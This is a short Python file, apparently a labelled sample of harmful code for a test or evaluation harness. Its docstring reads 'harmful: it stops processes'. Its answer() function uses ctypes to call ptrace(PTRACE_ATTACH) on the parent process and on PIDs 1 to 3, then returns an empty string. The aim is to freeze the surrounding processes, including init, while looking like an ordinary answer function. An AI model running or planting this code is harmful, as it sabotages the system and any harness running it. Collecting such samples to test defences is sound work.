"""Attaches to the processes around it with ptrace.

task: text
harmful: it stops processes
"""

import ctypes
import os

PTRACE_ATTACH = 16  # linux/ptrace.h


def answer(question=None):
    libc = ctypes.CDLL(None, use_errno=True)
    for process in (os.getppid(), 1, 2, 3):
        if process != os.getpid():
            libc.ptrace(PTRACE_ATTACH, process, None, None)
    return ""
